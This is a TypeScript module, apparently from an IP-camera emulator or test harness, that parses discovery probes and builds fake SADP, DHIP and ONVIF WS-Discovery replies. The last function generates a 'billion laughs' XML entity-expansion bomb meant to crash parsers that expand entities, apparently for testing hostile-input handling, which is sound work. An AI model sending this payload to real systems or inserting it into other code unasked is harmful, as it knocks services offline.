import { concatBytes, utf8 } from './wire-http.js';
import type { DeviceContext } from './types.js';

const decoder = new TextDecoder('utf-8', { fatal: false });

/** Escapes text for an XML element. */
function xmlText(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** The `<Uuid>` of a SADP `inquiry` probe, or undefined when the datagram is not one. */
export function readSadpInquiry(payload: Uint8Array): string | undefined {
  const text = decoder.decode(payload.subarray(0, 4096));
  if (!/<Probe>/.test(text) || !/<Types>\s*inquiry\s*<\/Types>/.test(text)) return undefined;
  return /<Uuid>([\w{}-]{1,64})<\/Uuid>/.exec(text)?.[1] ?? '';
}

/** Fields of a SADP ProbeMatch that differ between devices; the rest comes from the context. */
export interface SadpFields {
  /** Numeric device class code as the firmware reports it. */
  deviceType: string;
  model: string;
  firmware: string;
  dspVersion: string;
  analogChannels: number;
  digitalChannels: number;
  disks: number;
  oemInfo?: string;
}

/** A SADP `<ProbeMatch>` reply (UDP 37020), field order after real replies (§2.1). */
export function buildSadpReply(probeUuid: string, f: SadpFields, d: DeviceContext): Uint8Array {
  const boot = d.now.toISOString().slice(0, 19).replace('T', ' ');
  const fields: Array<[string, string | number]> = [
    ['Uuid', probeUuid === '' ? d.uuid.toUpperCase() : probeUuid],
    ['Types', 'inquiry'],
    ['DeviceType', f.deviceType],
    ['DeviceDescription', f.model],
    ['DeviceSN', d.serial],
    ['CommandPort', d.ports['8000'] ?? 8000],
    ['HttpPort', d.ports['80'] ?? 80],
    ['MAC', d.mac.replace(/:/g, '-')],
    ['IPv4Address', d.address],
    ['IPv4SubnetMask', '255.0.0.0'],
    ['IPv4Gateway', '0.0.0.0'],
    ['IPv6Address', '::'],
    ['IPv6Gateway', '::'],
    ['IPv6MaskLen', 64],
    ['DHCP', 'false'],
    ['AnalogChannelNum', f.analogChannels],
    ['DigitalChannelNum', f.digitalChannels],
    ['SoftwareVersion', f.firmware],
    ['DSPVersion', f.dspVersion],
    ['BootTime', boot],
    ['Encrypt', 'true'],
    ['ResetAbility', 'false'],
    ['DiskNumber', f.disks],
    ['Activated', 'true'],
    ['PasswordResetAbility', 'true'],
    ['PasswordResetModeSecond', 'true'],
    ...(f.oemInfo === undefined ? [] : ([['OEMinfo', f.oemInfo]] as Array<[string, string]>)),
    ['SupportHCPlatform', 'true'],
    ['HCPlatformEnable', 'false'],
    ['IsModifyVerificationCode', 'false'],
    ['HttpsPort', d.ports['443'] ?? 443],
    ['RtspPort', d.ports['554'] ?? 554],
  ];
  const body = fields.map(([k, v]) => `<${k}>${xmlText(String(v))}</${k}>`).join('\n');
  return utf8(`<?xml version="1.0" encoding="UTF-8"?>\n<ProbeMatch>\n${body}\n</ProbeMatch>\n`);
}

const dhipHeaderSize = 32;

/** Packs JSON into a DHIP packet: LE u32 0x20, `DHIP`, zeros, LE body length at 16 and 24. */
export function packDhip(json: string): Uint8Array {
  const body = utf8(json);
  const header = new Uint8Array(dhipHeaderSize);
  const view = new DataView(header.buffer);
  view.setUint32(0, dhipHeaderSize, true);
  header.set(utf8('DHIP'), 4);
  view.setUint32(16, body.length, true);
  view.setUint32(24, body.length, true);
  return concatBytes(header, body);
}

/** The JSON of a DHIP packet, or undefined when it is not one (or the length is bad). */
export function unpackDhip(packet: Uint8Array): unknown {
  if (packet.length < dhipHeaderSize || decoder.decode(packet.subarray(4, 8)) !== 'DHIP') return;
  const length = new DataView(packet.buffer, packet.byteOffset).getUint32(16, true);
  if (length > 65536 || dhipHeaderSize + length > packet.length) return undefined;
  try {
    return JSON.parse(decoder.decode(packet.subarray(dhipHeaderSize, dhipHeaderSize + length)));
  } catch {
    return undefined;
  }
}

/** True when a datagram is a DHIP `DHDiscover.search` request. */
export function isDhipSearch(payload: Uint8Array): boolean {
  const json = unpackDhip(payload);
  return (
    typeof json === 'object' &&
    json !== null &&
    'method' in json &&
    json.method === 'DHDiscover.search'
  );
}

/** Fields of a DHIP `client.notifyDevInfo` reply that differ between devices. */
export interface DhipFields {
  deviceClass: string;
  model: string;
  vendor: string;
  firmware: string;
  videoInputs: number;
  /** Nominal SDK port the reply advertises: 37777 on Dahua firmware, 35000 on some Lorex models. */
  sdkPort?: number;
}

/** A DHIP discovery reply (UDP 37810) with `params.deviceInfo` and a top-level `mac` (§2.2). */
export function buildDhipReply(f: DhipFields, d: DeviceContext): Uint8Array {
  const deviceInfo = {
    AlarmInputChannels: f.deviceClass === 'IPC' ? 1 : 4,
    AlarmOutputChannels: 1,
    DeviceClass: f.deviceClass,
    DeviceType: f.model,
    HttpPort: d.ports['80'] ?? 80,
    IPv4Address: {
      DefaultGateway: '0.0.0.0',
      DhcpEnable: false,
      IPAddress: d.address,
      SubnetMask: '255.0.0.0',
    },
    IPv6Address: { DefaultGateway: '', DhcpEnable: false, IPAddress: '/64', LinkLocalAddress: '' },
    Init: 1,
    MachineName: d.serial,
    Manufacturer: 'Private',
    Port: d.ports[String(f.sdkPort ?? 37777)] ?? f.sdkPort ?? 37777,
    RemoteVideoInputChannels: 0,
    SerialNo: d.serial,
    Vendor: f.vendor,
    Version: f.firmware,
    VideoInputChannels: f.videoInputs,
    VideoOutputChannels: f.deviceClass === 'IPC' ? 0 : 1,
  };
  const json = { mac: d.mac, method: 'client.notifyDevInfo', params: { deviceInfo } };
  return packDhip(`${JSON.stringify(json)}\n`);
}

/** The MessageID of a WS-Discovery Probe, or undefined when the datagram is not a Probe. */
export function readWsdProbe(payload: Uint8Array): string | undefined {
  const text = decoder.decode(payload.subarray(0, 16384));
  if (!/<(?:\w+:)?Probe[\s>]/.test(text)) return undefined;
  return /<(?:\w+:)?MessageID[^>]*>\s*([^<\s]{1,200})\s*</.exec(text)?.[1] ?? '';
}

/** A WS-Discovery ProbeMatches envelope (UDP 3702) carrying the device's ONVIF scopes (§2.3). */
export function buildWsdReply(
  relatesTo: string,
  scopes: readonly string[],
  d: DeviceContext,
): Uint8Array {
  const port = d.ports['80'] ?? 80;
  const xaddr = `http://${d.address}${port === 80 ? '' : `:${port}`}/onvif/device_service`;
  const xml =
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope" ' +
    'xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" ' +
    'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" ' +
    'xmlns:dn="http://www.onvif.org/ver10/network/wsdl" ' +
    'xmlns:tds="http://www.onvif.org/ver10/device/wsdl">' +
    '<env:Header>' +
    `<wsa:MessageID>urn:uuid:${d.uuid}</wsa:MessageID>` +
    `<wsa:RelatesTo>${xmlText(relatesTo)}</wsa:RelatesTo>` +
    '<wsa:To env:mustUnderstand="true">http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</wsa:To>' +
    '<wsa:Action env:mustUnderstand="true">http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</wsa:Action>' +
    '</env:Header><env:Body><d:ProbeMatches><d:ProbeMatch>' +
    `<wsa:EndpointReference><wsa:Address>urn:uuid:${d.uuid}</wsa:Address></wsa:EndpointReference>` +
    '<d:Types>dn:NetworkVideoTransmitter tds:Device</d:Types>' +
    `<d:Scopes>${scopes.map(xmlText).join(' ')}</d:Scopes>` +
    `<d:XAddrs>${xaddr}</d:XAddrs>` +
    '<d:MetadataVersion>10</d:MetadataVersion>' +
    '</d:ProbeMatch></d:ProbeMatches></env:Body></env:Envelope>';
  return utf8(xml);
}

/** ONVIF scope URIs from `kind/value` pairs; values are percent-encoded as devices send them. */
export function onvifScopes(pairs: ReadonlyArray<readonly [string, string]>): string[] {
  return pairs.map(
    ([k, v]) => `onvif://www.onvif.org/${k}/${encodeURIComponent(v).replace(/%2F/g, '/')}`,
  );
}

/**
 * A "billion laughs" document: ten levels of ten-fold entity expansion (10^9 copies of `lol`)
 * wrapped in `root`. Small on the wire; fatal to a parser that expands entities.
 */
export function billionLaughs(root: string, inner = '&lol9;'): string {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) {
    const prev = i === 1 ? 'lol' : `lol${i - 1}`;
    entities.push(`<!ENTITY lol${i} "${`&${prev};`.repeat(10)}">`);
  }
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [\n${entities.join('\n')}\n]>\n<${root}>${inner}</${root}>\n`;
}
